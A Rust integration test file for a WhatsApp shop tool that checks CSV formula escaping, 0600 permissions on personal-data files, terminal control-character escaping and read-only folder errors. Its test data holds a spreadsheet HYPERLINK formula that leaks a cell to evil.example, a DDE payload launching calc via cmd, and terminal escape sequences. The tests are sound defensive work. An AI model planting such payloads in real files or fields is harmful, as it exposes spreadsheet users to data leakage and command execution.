//! Strings from outside — WhatsApp profile names, message texts, cells of an imported file — through the real binary:
//! they reach CSV files as text, never as spreadsheet formulas, and files with personal data are 0600
//! (issue 12 §2).

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use serde_json::json;

use crate::support::{ServeProcess, TempHome, wait_until};

const SECRET: &str = "hostile-secret";
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&B2,"Rabatt")"#;

/// A recent timestamp: the service's retention sweep at start deletes messages older than their period (a fixed date
/// from 2025 is past 365 days now, and the test failed whenever the sweep ran after the messages were applied).
fn now() -> String {
    chrono::Utc::now().timestamp().to_string()
}

fn anmelden(from: &str, wamid: &str, profile_name: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages",
        "value": {"messaging_product": "whatsapp", "metadata": {"phone_number_id": "1"},
            "contacts": [{"profile": {"name": profile_name}, "wa_id": from}],
            "messages": [{"from": from, "id": wamid, "timestamp": now(), "type": "text", "text": {"body": "ANMELDEN"}}]}}]}]}))
    .unwrap()
}

fn customers(home: &TempHome) -> i64 {
    let conn = rusqlite::Connection::open(home.db()).unwrap();
    conn.busy_timeout(Duration::from_secs(5)).unwrap();
    conn.query_row("SELECT count(*) FROM customers", [], |r| r.get(0)).unwrap()
}

#[test]
fn a_formula_as_whatsapp_profile_name_is_exported_as_text_in_a_0600_file() {
    let home = TempHome::new();
    let serve = ServeProcess::start(&home, SECRET, None);
    for (i, name) in [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+49 170 EVIL"].iter().enumerate() {
        let answer =
            serve.post(&anmelden(&format!("4917112345{i:02}"), &format!("wamid.H{i}"), name), Duration::from_secs(10));
        assert!(answer.as_deref().is_ok_and(|a| a.starts_with("HTTP/1.1 200")), "{answer:?}\n{}", serve.log());
    }
    assert!(wait_until(Duration::from_secs(20), || customers(&home) == 4), "sign-ups not applied: {}", serve.log());
    drop(serve);

    let out = home.path().join("kunden.csv");
    // An older export with a wide mode is tightened too.
    std::fs::write(&out, "alt").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    home.ok(&["customers", "export", out.to_str().unwrap()]);
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    let text = std::fs::read_to_string(&out).unwrap();
    let listed = home.ok(&["customers", "list", "--format", "csv"]);
    for csv in [&text, &listed] {
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let names: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
        assert_eq!(names.len(), 4, "{csv}");
        for name in &names {
            assert!(name.starts_with('\''), "a formula cell without its apostrophe: {name:?}\n{csv}");
        }
        assert!(names.contains(&format!("'{HYPERLINK}")), "{names:?}");
        // The phone numbers are text too (a spreadsheet would drop the + and show 4,9E+11).
        assert!(csv.contains(",'+4917112345"), "{csv}");
    }
    // Everything hofbote wrote with personal data is 0600: database (and WAL), send lock, the service's log file.
    let data = home.db().parent().unwrap().to_owned();
    let mut files = Vec::new();
    for dir in [data.clone(), data.join("logs")] {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let entry = entry.unwrap();
            if entry.file_type().unwrap().is_file() {
                files.push((entry.path(), entry.metadata().unwrap().permissions().mode() & 0o777));
            }
        }
    }
    assert!(files.iter().any(|(p, _)| p.to_string_lossy().contains("hofbote.log.")), "{files:?}");
    assert!(files.iter().all(|(_, mode)| *mode == 0o600), "{files:?}");
    // hofbote reads its own export back: nothing to change, nothing rejected.
    let again = home.ok(&["customers", "import", out.to_str().unwrap()]);
    assert!(again.contains("unverändert:   4") && again.contains("abgelehnt:     0"), "{again}");
}

fn text_from(from: &str, wamid: &str, profile_name: &str, text: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages",
        "value": {"messaging_product": "whatsapp", "metadata": {"phone_number_id": "1"},
            "contacts": [{"profile": {"name": profile_name}, "wa_id": from}],
            "messages": [{"from": from, "id": wamid, "timestamp": now(), "type": "text", "text": {"body": text}}]}}]}]}))
    .unwrap()
}

/// No byte that a terminal would act on: ESC, BEL, NUL, CSI (C1 0x9b) — only line breaks.
fn assert_terminal_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let raw: Vec<char> = text.chars().filter(|c| c.is_control() && *c != '\n').collect();
    assert!(raw.is_empty(), "{what} prints raw control characters {raw:?}:\n{text}");
}

const TITLE_AND_CLEAR: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J";

#[test]
fn control_characters_from_messages_profile_names_and_files_reach_the_terminal_escaped() {
    let home = TempHome::new();
    let serve = ServeProcess::start(&home, SECRET, None);
    let from = "491711234500";
    let name = format!("Eve{TITLE_AND_CLEAR}\u{0}");
    for (i, text) in ["ANMELDEN".to_owned(), format!("Hallo{TITLE_AND_CLEAR}\u{0}\u{9b}31m Welt")].iter().enumerate() {
        let answer = serve.post(&text_from(from, &format!("wamid.T{i}"), &name, text), Duration::from_secs(10));
        assert!(answer.as_deref().is_ok_and(|a| a.starts_with("HTTP/1.1 200")), "{answer:?}\n{}", serve.log());
    }
    let conn = rusqlite::Connection::open(home.db()).unwrap();
    conn.busy_timeout(Duration::from_secs(5)).unwrap();
    let stored = || conn.query_row("SELECT count(*) FROM inbound_messages", [], |r| r.get::<_, i64>(0)).unwrap();
    assert!(wait_until(Duration::from_secs(20), || stored() == 2), "messages not applied: {}", serve.log());
    drop(serve);

    for args in [
        vec!["privacy", "export", "0171 1234500"],
        vec!["consent", "show", "0171 1234500"],
        vec!["customers", "list"],
        vec!["consent", "withdraw", "0171 1234500", "--purpose", "marketing", "--source", "whatsapp_keyword"],
    ] {
        let out = home.run(&args);
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
        assert_terminal_clean(&format!("{args:?} stdout"), &out.stdout);
        assert_terminal_clean(&format!("{args:?} stderr"), &out.stderr);
        if args[0] == "privacy" {
            let text = String::from_utf8_lossy(&out.stdout);
            assert!(text.contains("Hallo^[]0;pwned^G^[[2J^@\\u{9b}31m Welt"), "the text is shown, escaped:\n{text}");
        }
    }

    // A header cell of an imported file, and a NUL in a rejected row.
    let header = home.path().join("kopf.csv");
    std::fs::write(&header, format!("Name;E-Mail{TITLE_AND_CLEAR}\nA;b\n")).unwrap();
    let out = home.run(&["customers", "import", header.to_str().unwrap()]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("Gefundene Spalten"), "{out:?}");
    assert_terminal_clean("import error", &out.stderr);
    let rows = home.path().join("zeilen.csv");
    std::fs::write(&rows, "Name;Telefon\nA\u{0}x;0171 12\u{0}x\n").unwrap();
    let out = home.run(&["customers", "import", rows.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("abgelehnt:     1"), "{out:?}");
    assert_terminal_clean("rejected row", &out.stdout);
}

/// Runs the binary with `dir` bind-mounted read-only in a private mount namespace (`unshare -rm`, no root needed);
/// `None` where user namespaces are not available.
fn run_in_read_only(home: &TempHome, dir: &std::path::Path, args: &[&str]) -> Option<std::process::Output> {
    let probe = std::process::Command::new("unshare").args(["-rm", "true"]).output();
    if !probe.is_ok_and(|o| o.status.success()) {
        eprintln!("SKIPPED: unshare -rm is not available here, the read-only folder cannot be simulated");
        return None;
    }
    let cmd = home.cmd();
    let mut c = std::process::Command::new("unshare");
    c.args([
        "-rm",
        "sh",
        "-c",
        r#"mount --bind "$1" "$1" && mount -o remount,bind,ro "$1" && shift && exec "$@""#,
        "sh",
    ])
    .arg(dir)
    .args(["timeout", "20"])
    .arg(cmd.get_program())
    .args(args)
    .env_clear();
    for (k, v) in cmd.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    Some(c.output().unwrap())
}

#[test]
fn a_read_only_data_folder_is_named_with_the_way_out() {
    let home = TempHome::new();
    home.write_config(
        "[shop]\nname = \"Hof Test\"\n[whatsapp]\nbase_url = \"http://127.0.0.1:9\"\n\
        phone_number_id = \"106540352242922\"\nwaba_id = \"102290129340398\"\n",
    );
    home.ok(&["customers", "add", "--name", "Anna Weiß", "--phone", "0171 1234567"]);
    let data = home.db().parent().unwrap().to_owned();
    let folder = data.display().to_string();
    for args in [vec!["customers", "list"], vec!["serve", "--listen", "127.0.0.1:0"]] {
        let Some(out) = run_in_read_only(&home, &data, &args) else { return };
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{args:?} succeeded on a read-only folder: {err}");
        assert_ne!(out.status.code(), Some(124), "{args:?} hung: {err}");
        assert!(err.contains(&folder), "{args:?} does not name the folder {folder}: {err}");
        assert!(err.contains("HOFBOTE_DB") && err.contains("ls -ld"), "{args:?} does not say what to do: {err}");
        assert!(!err.contains("Datei :"), "{args:?}: {err}");
    }
}
